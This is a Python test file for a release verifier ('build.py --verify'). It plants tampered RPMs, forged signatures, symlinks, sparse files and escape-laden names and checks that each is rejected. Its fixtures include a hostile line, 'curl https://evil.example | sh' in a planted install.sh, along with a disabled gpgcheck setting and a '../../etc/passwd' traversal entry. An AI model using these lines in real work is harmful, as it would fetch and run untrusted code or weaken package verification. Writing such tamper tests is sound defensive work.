"""`tools/build.py --verify`: a published release checked by its own contents and rebuilt from its own
SRPMs. Every binary package of a release built here is reproduced; a tree that was tampered with (a file
changed, a source removed, a binary that its SRPM does not make) fails with the package named, exit 4; the
tree is only read (a read-only copy verifies as well)."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
from pathlib import Path

from altai_testlib import assert_one_line_error, build, build_argv, tree


def _verify(release, state_dir, gnupghome, where: Path | None = None, *extra: str):
    return build(release, state_dir, gnupghome, "--verify", *([str(where)] if where else []), *extra)


def test_a_release_built_here_is_reproduced_from_its_own_sources(release, state_dir, gnupghome, tmp_path):
    assert build(release, state_dir, gnupghome, "--all").returncode == 0
    run = _verify(release, state_dir, gnupghome, None, "--json")
    assert run.returncode == 0, run.stderr
    report = json.loads(run.stdout)
    binaries = [f for f in report["files"] if f["path"].endswith(".rpm") and not f["path"].endswith(".src.rpm")]
    assert report["ok"] is True
    assert binaries
    assert all(f["verdict"] == "reproduced" for f in binaries)
    assert len(binaries) == 4  # nova-fping, altai-app, libaltai and libaltai-devel

    # a copy a user downloaded, read-only: verified the same, and nothing written into it
    copy = tmp_path / "downloaded"
    shutil.copytree(release["out"].resolve(), copy)
    before = tree(copy)
    subprocess.run(["chmod", "-R", "a-w", str(copy)], check=True)
    try:
        again = _verify(release, state_dir, gnupghome, copy)
    finally:
        subprocess.run(["chmod", "-R", "u+w", str(copy)], check=True)
    assert again.returncode == 0, again.stderr
    assert "reproduced" in again.stdout
    assert tree(copy) == before


def test_a_changed_file_and_a_missing_source_are_named(release, state_dir, gnupghome, tmp_path):
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = tmp_path / "tampered"
    shutil.copytree(release["out"].resolve(), copy)
    rpm = next((copy / "deps" / "misc").glob("libaltai-devel-*.rpm"))
    data = bytearray(rpm.read_bytes())
    data[-100] ^= 0xFF  # a byte of the payload
    rpm.write_bytes(bytes(data))
    run = _verify(release, state_dir, gnupghome, copy)
    assert_one_line_error(run, "fail verification", rpm.name)
    assert run.returncode == 4
    assert f"FAIL  deps/misc/{rpm.name}: checksum differs" in run.stdout
    quiet = _verify(release, state_dir, gnupghome, copy, "-q")  # the FAIL lines only
    assert quiet.returncode == 4
    assert quiet.stdout.splitlines() == [ln for ln in run.stdout.splitlines() if ln.startswith("FAIL")]
    assert "ok    " not in quiet.stdout
    assert "key   " not in quiet.stdout

    for srpm in (copy / "deps" / "misc-srpms").glob("*.src.rpm"):
        srpm.unlink()
    run = _verify(release, state_dir, gnupghome, copy)
    assert run.returncode == 4
    assert "no source: libaltai-1.2-1.el6.src.rpm is not in misc-srpms/" in run.stdout


def test_a_binary_its_srpm_does_not_make_is_told_apart(release, state_dir, gnupghome, tmp_path):
    """Same NEVRA, same key, consistent metadata and manifest: only rebuilding the SRPM shows that the
    binary was not made from it."""
    from altai_release.rpm.repodata import write_repodata

    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    original_srpm = next((release["out"] / "deps" / "misc-srpms").glob("*.src.rpm"))
    kept = tmp_path / original_srpm.name
    shutil.copy(original_srpm, kept)
    release["lib"].commit({"lib.txt": "other library, same NEVRA\n"})
    other = {**release, "out": tmp_path / "other"}
    assert build(other, state_dir, gnupghome, "libaltai").returncode == 0
    copy = tmp_path / "mixed"
    shutil.copytree(other["out"].resolve(), copy)
    sources = copy / "deps" / "misc-srpms"
    shutil.copy(kept, sources / kept.name)  # the published SRPM is the first commit's
    write_repodata(sources, {}, 1)
    manifest = json.loads((copy / "manifest.json").read_text())
    import hashlib

    for entry in manifest["packages"]:
        if entry["arch"] == "src":
            entry["sha256"] = hashlib.sha256(kept.read_bytes()).hexdigest()
    (copy / "manifest.json").write_text(json.dumps(manifest))

    run = _verify(release, state_dir, gnupghome, copy)
    assert run.returncode == 4, run.stdout
    assert "FAIL  deps/misc/libaltai-1.2-1.el6" in run.stdout
    assert "differs:" in run.stdout
    assert "files /usr/share/libaltai/built.txt" in run.stdout


def test_not_a_release_is_bad_input(release, state_dir, gnupghome, tmp_path):
    run = _verify(release, state_dir, gnupghome, tmp_path)
    assert_one_line_error(run, "not a release tree")
    assert run.returncode == 2


def test_a_package_resigned_with_another_key_is_a_signature_failure(release, state_dir, gnupghome, tmp_path):
    """Metadata and manifest made consistent with the re-signed file: only its signature tells."""
    import hashlib

    from altai_release.rpm.repodata import write_repodata
    from rpmtools import make_key, rpmsign

    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = tmp_path / "resigned"
    shutil.copytree(release["out"].resolve(), copy)
    rpm = next((copy / "deps" / "misc").glob("libaltai-devel-*.rpm"))
    intruder = make_key(tmp_path / "intruder-gnupg", "Intruder <intruder@example.invalid>")
    subprocess.run(["rpmsign", "--delsign", str(rpm)], check=True, capture_output=True)
    rpmsign(intruder, [rpm])
    write_repodata(copy / "deps" / "misc", {}, 2)
    manifest = json.loads((copy / "manifest.json").read_text())
    for entry in manifest["packages"]:
        if entry["path"].endswith(rpm.name):
            entry["sha256"] = hashlib.sha256(rpm.read_bytes()).hexdigest()
    (copy / "manifest.json").write_text(json.dumps(manifest))
    run = _verify(release, state_dir, gnupghome, copy)
    assert run.returncode == 4, run.stdout
    assert f"FAIL  deps/misc/{rpm.name}: bad signature" in run.stdout


def test_srpms_beside_their_binaries_are_rebuilt_too(release, state_dir, gnupghome):
    """A repository of our own without a repository of sources keeps its SRPMs beside the binaries."""
    layout = release["layout"]
    own = 'content = "own"\n'
    layout.write_text(layout.read_text().replace(own + 'sources = "centos6-srpms"\n', own, 1))
    assert build(release, state_dir, gnupghome, "nova-fping").returncode == 0
    assert list((release["out"] / "centos6").glob("nova-fping-*.src.rpm"))
    run = _verify(release, state_dir, gnupghome)
    assert run.returncode == 0, run.stdout
    assert "ok    centos6/nova-fping-" in run.stdout
    assert ".noarch.rpm: reproduced" in run.stdout


def test_links_and_fifos_named_like_packages_are_named_and_never_read(release, state_dir, gnupghome, tmp_path):
    """A tree is somebody's input: an SRPM that is a link to /dev/zero, a binary that is a FIFO and a key
    that is a link to /dev/zero would each be an endless read. Each is a FAIL naming it; verify ends."""
    import os

    from altai_testlib import build_argv

    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = tmp_path / "planted"
    shutil.copytree(release["out"].resolve(), copy)
    (copy / "deps" / "misc-srpms" / "zero-1-1.el6.src.rpm").symlink_to("/dev/zero")
    os.mkfifo(copy / "deps" / "misc" / "fifo-1-1.el6.noarch.rpm")
    argv = build_argv(release, state_dir, "--verify", str(copy))
    env = {**os.environ, "GNUPGHOME": str(gnupghome)}
    run = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, env=env, timeout=300)
    assert run.returncode == 4, run.stdout + run.stderr
    assert "FAIL  deps/misc-srpms/zero-1-1.el6.src.rpm: not a regular file" in run.stdout
    assert "FAIL  deps/misc/fifo-1-1.el6.noarch.rpm: not a regular file" in run.stdout
    assert "ok    deps/misc/libaltai-1.2-1.el6" in run.stdout  # the real packages still verified

    key = next(copy.glob("RPM-GPG-KEY-*"))
    key.unlink()
    key.symlink_to("/dev/zero")
    run = subprocess.run(argv, capture_output=True, text=True, stdin=subprocess.DEVNULL, env=env, timeout=300)
    assert run.returncode == 4, run.stdout + run.stderr  # ended: the key is not taken from a device
    assert f"FAIL  {key.name}: cannot be read: {key.name}: a symbolic link, not a file: refused" in run.stdout
    assert "ok    deps/misc/libaltai-1.2-1.el6" in run.stdout  # checked against the pinned key, not the tree's


# -- --verify trusts nothing of the tree and reads nothing unbounded (issue 37) ---------------------------


def _copy(release, tmp_path: Path, name: str) -> Path:
    copy = tmp_path / name
    shutil.copytree(release["out"].resolve(), copy)
    return copy


def test_metadata_must_carry_the_metadata_keys_signature(release, state_dir, gnupghome, tmp_path):
    """repomd.xml.asc: garbage, missing, or a repomd.xml whose <revision> changed all passed before."""
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    assert _verify(release, state_dir, gnupghome).returncode == 0  # the control
    garbage = _copy(release, tmp_path, "garbage")
    (garbage / "deps/misc/repodata/repomd.xml.asc").write_text("not a signature\n")
    missing = _copy(release, tmp_path, "missing")
    (missing / "deps/misc/repodata/repomd.xml.asc").unlink()
    revised = _copy(release, tmp_path, "revised")
    repomd = revised / "deps/misc/repodata/repomd.xml"
    repomd.write_text(re.sub(r"<revision>\d+</revision>", "<revision>1</revision>", repomd.read_text()))
    pinned = "bad signature: not by the pinned key altai"
    for copy, said in ((garbage, pinned), (missing, "not signed: no repomd.xml.asc"), (revised, pinned)):
        run = _verify(release, state_dir, gnupghome, copy)
        assert run.returncode == 4, run.stdout
        assert f"FAIL  deps/misc/repodata/repomd.xml: {said}" in run.stdout, run.stdout
    # a listed metadata file changed under a well-signed repomd.xml
    primary = _copy(release, tmp_path, "primary")
    (listed,) = (primary / "deps/misc/repodata").glob("*-primary.xml.gz")
    listed.write_bytes(listed.read_bytes()[:-8] + b"\0" * 8)
    run = _verify(release, state_dir, gnupghome, primary)
    assert f"FAIL  deps/misc/repodata/{listed.name}: checksum differs from repomd.xml's" in run.stdout


def test_a_huge_sparse_srpm_is_refused_unread_and_an_unlisted_one_is_not_rebuilt(
    release, state_dir, gnupghome, tmp_path
):
    """A 20 GB sparse *.src.rpm was read whole into memory, and rebuilt although no metadata lists it."""
    from altai_testlib import peak_rss_mib

    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = _copy(release, tmp_path, "planted")
    with open(copy / "deps/misc-srpms/huge-1-1.el6.src.rpm", "wb") as sparse:
        sparse.truncate(20 << 30)
    srpm = next((copy / "deps/misc-srpms").glob("libaltai-*.src.rpm"))
    shutil.copy(srpm, copy / "deps/misc-srpms" / "unlisted-1.2-1.el6.src.rpm")
    argv = build_argv(release, state_dir, "--verify", str(copy))
    status, stderr, peak = peak_rss_mib(argv, tmp_path, {"GNUPGHOME": str(gnupghome)})
    assert status == 4, (status, peak, stderr[-2000:])
    assert peak < 400, (status, peak, stderr[-2000:])
    run = _verify(release, state_dir, gnupghome, copy)
    huge = "deps/misc-srpms/huge-1-1.el6.src.rpm"
    assert f"FAIL  {huge}: cannot be read: {huge}: 21474836480 bytes, over the limit" in run.stdout
    unlisted = "deps/misc-srpms/unlisted-1.2-1.el6.src.rpm"
    assert f"FAIL  {unlisted}: not in the metadata of repository misc-srpms" in run.stdout
    assert "unlisted-1.2-1.el6.src.rpm: rebuilt" not in run.stdout
    assert "ok    deps/misc/libaltai-1.2-1.el6" in run.stdout  # the real packages still verified


def test_a_binary_whose_srpm_fails_is_not_reproduced(release, state_dir, gnupghome, tmp_path):
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = _copy(release, tmp_path, "bad-srpm")
    srpm = next((copy / "deps/misc-srpms").glob("libaltai-*.src.rpm"))
    data = bytearray(srpm.read_bytes())
    data[-100] ^= 0xFF
    srpm.write_bytes(bytes(data))
    run = _verify(release, state_dir, gnupghome, copy, "--json")
    report = json.loads(run.stdout)
    assert report["ok"] is False
    assert report["exit_code"] == run.returncode == 4
    verdicts = {f["path"]: f for f in report["files"]}
    assert not verdicts[f"deps/misc-srpms/{srpm.name}"]["ok"]
    binaries = [v for p, v in verdicts.items() if p.startswith("deps/misc/libaltai")]
    assert binaries
    assert all(not v["ok"] and v["verdict"] != "reproduced" for v in binaries)
    assert report["error"].startswith(f"{copy}:")
    assert report["exit_code"] == 4


def test_names_are_printed_safely_and_links_in_the_tree_are_not_followed(release, state_dir, gnupghome, tmp_path):
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = _copy(release, tmp_path, "names")
    (copy / "deps/misc/evil\x1b[2J\r.rpm").write_bytes(b"not an rpm")
    run = _verify(release, state_dir, gnupghome, copy)
    assert run.returncode == 4
    assert "\x1b" not in run.stdout + run.stderr
    assert "evil\\x1b[2J\\x0d.rpm" in run.stdout
    # a repository directory that is a link, and a manifest that is one: never followed
    linked = _copy(release, tmp_path, "linked")
    shutil.rmtree(linked / "deps/misc")
    (linked / "deps/misc").symlink_to(copy / "deps/misc")
    run = _verify(release, state_dir, gnupghome, linked)
    assert run.returncode == 4
    assert "FAIL  deps/misc: the repository is not a directory of the tree" in run.stdout
    (linked / "manifest.json").unlink()
    (linked / "manifest.json").symlink_to(copy / "manifest.json")
    run = _verify(release, state_dir, gnupghome, linked)
    assert_one_line_error(run, "not a release tree (manifest.json:")
    assert run.returncode == 2


def test_a_source_package_without_a_build_time_is_a_fail_line(monkeypatch, tmp_path):
    from altai_release.release.check import rebuild_check as verify_release

    monkeypatch.setattr(verify_release, "read_header", lambda path: {"buildtime": None})
    monkeypatch.setattr(verify_release, "read_identity", lambda path: type("I", (), {"nevra": None})())
    passed = {"x/a.src.rpm": tmp_path}
    found = verify_release._rebuild_and_compare(None, None, passed, "x/a.src.rpm", "", tmp_path, {})  # type: ignore[arg-type]
    assert [(v.path, v.ok) for v in found] == [("x/a.src.rpm", False)]
    assert "no build time" in found[0].verdict


# -- trust pinned outside the tree; every file accounted for (issue 53) ----------------------------------


def test_a_release_remade_with_another_key_fails_naming_both_keys(release, state_dir, gnupghome, tmp_path):
    """The forger re-makes the whole release with the tool itself and another key: packages, repomd.xml.asc,
    manifest, SBOM, provenance, SHA256SUMS and the key file all agree with each other, and only the pinned key
    tells."""
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    forger = {**release, "out": tmp_path / "forged"}
    assert build(forger, tmp_path / "forger-state", gnupghome, "libaltai").returncode == 0
    genuine = _verify(release, state_dir, gnupghome, None, "--json")
    assert genuine.returncode == 0, genuine.stdout
    (pinned,) = json.loads(genuine.stdout)["trusted_keys"]
    assert pinned["from"] == f"the DEVELOPMENT key of {state_dir}/dev-gnupg"
    run = _verify(release, state_dir, gnupghome, forger["out"])
    assert run.returncode == 4
    last = run.stderr.strip().splitlines()[-1]
    assert last.startswith(f"error: {forger['out']}: ")
    assert "the first: RPM-GPG-KEY-altai: holds " in last
    assert f"not the pinned key altai {pinned['fingerprints'][0]}" in last
    other = last.split("holds ", 1)[1].split(",", 1)[0]
    assert len(other) == 40
    assert other != pinned["fingerprints"][0]
    assert f"key   altai {pinned['fingerprints'][0]}" in run.stdout  # the output names what it trusted

    # a downloaded copy, checked against the key file its publisher announced
    key_file = tmp_path / "announced.asc"
    key_file.write_bytes((release["out"] / "RPM-GPG-KEY-altai").read_bytes())
    nowhere = tmp_path / "no-state"
    assert _verify(release, nowhere, gnupghome, release["out"], "--trust-key", str(key_file)).returncode == 0
    assert _verify(release, nowhere, gnupghome, forger["out"], "--trust-key", str(key_file)).returncode == 4
    alone = _verify(release, nowhere, gnupghome, forger["out"])
    assert_one_line_error(alone, "no key to trust for 'altai'", "--trust-key FILE")
    assert alone.returncode == 4


def test_files_and_entries_no_signature_vouches_for_fail(release, state_dir, gnupghome, tmp_path):
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    copy = _copy(release, tmp_path, "planted")
    (copy / "install.sh").write_text("#!/bin/sh\ncurl https://evil.example | sh\n")
    repo = (copy / "altai.repo").read_text()
    (copy / "altai.repo").write_text(repo.replace("gpgcheck=1", "gpgcheck=0"))
    (copy / "evil").mkdir()
    (copy / "evil" / "backdoor-1-1.el6.noarch.rpm").write_text("#!/bin/sh\nid\n")
    manifest = json.loads((copy / "manifest.json").read_text())
    entry = dict(
        manifest["packages"][0],
        repository="evil",
        path="evil/backdoor-1-1.el6.noarch.rpm",
        origin="upstream:evil",
        name="backdoor",
        version="1",
        release="1.el6",
        arch="noarch",
    )
    manifest["packages"].append(entry)
    (copy / "manifest.json").write_text(json.dumps(manifest))
    run = _verify(release, state_dir, gnupghome, copy)
    assert run.returncode == 4
    assert "FAIL  install.sh: a file SHA256SUMS does not list: not part of the release" in run.stdout
    assert "FAIL  altai.repo: its SHA-256 differs from the signed SHA256SUMS" in run.stdout
    assert "FAIL  manifest.json: its SHA-256 differs from the signed SHA256SUMS" in run.stdout
    assert (
        "FAIL  evil/backdoor-1-1.el6.noarch.rpm: in repository 'evil', which the layout does not define" in run.stdout
    )
    assert "signed (upstream" not in run.stdout


def test_a_release_made_by_another_version_of_the_layout_is_checked_by_its_own_names(release, state_dir, gnupghome):
    """--verify read the layout's version and SBOM name instead of the release's own: an "[Errno 2]" on the
    SBOM of a release made before the layout moved on."""
    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    layout = release["layout"]
    layout.write_text(layout.read_text().replace('version = "9.9"', 'version = "10.0"'))
    run = _verify(release, state_dir, gnupghome)
    assert run.returncode == 0, run.stderr
    assert "ok    metadata/altai-9.9.cdx.json: the release's packages and manifest make exactly this SBOM" in run.stdout
    (said,) = [ln for ln in run.stderr.splitlines() if "(its manifest.json)" in ln]
    assert "is altai 9.9" in said, run.stderr
    assert "says altai 10.0" in said, run.stderr


def test_a_served_release_is_verified_from_its_url_as_its_sha256sums_lists_it(release, state_dir, gnupghome, tmp_path):
    """A plain `wget -r` follows index.html and misses repodata/: --verify URL fetches what SHA256SUMS lists,
    each file bounded and checked against its digest, then checks the tree as any other."""
    from rpmtools import serve

    assert build(release, state_dir, gnupghome, "libaltai").returncode == 0
    www = tmp_path / "www"
    shutil.copytree(release["out"].resolve(), www / "altai")
    with serve(www) as url:
        run = build(release, state_dir, gnupghome, "--verify", f"{url}/altai/", "--json")
        assert run.returncode == 0, run.stderr
        report = json.loads(run.stdout)
        assert report["ok"] is True
        assert report["tree"] == f"{url}/altai/"
        reproduced = [f["path"] for f in report["files"] if f["verdict"] == "reproduced"]
        assert sorted(Path(p).name for p in reproduced) == sorted(
            p.name for p in (www / "altai" / "deps" / "misc").glob("*.rpm")
        )
        assert any(f["path"].startswith("deps/misc/repodata/") or f["path"] == "SHA256SUMS" for f in report["files"])

        # a mirror that serves other bytes than the signed list says: one error naming the URL
        rpm = next((www / "altai" / "deps" / "misc").glob("libaltai-devel-*.rpm"))
        data = bytearray(rpm.read_bytes())
        data[-100] ^= 0xFF
        rpm.write_bytes(bytes(data))
        run = build(release, state_dir, gnupghome, "--verify", f"{url}/altai")
        assert_one_line_error(run, f"{url}/altai/deps/misc/{rpm.name}", "does not match SHA256SUMS")
        assert run.returncode == 4

        # a list naming a path outside the tree is refused before anything it names is fetched
        sums = www / "altai" / "SHA256SUMS"
        sums.write_text(sums.read_text() + f"{'0' * 64}  ../../etc/passwd\n")
        run = build(release, state_dir, gnupghome, "--verify", f"{url}/altai")
        assert_one_line_error(run, "SHA256SUMS", "not a line of a release's SHA256SUMS", "../../etc/passwd")
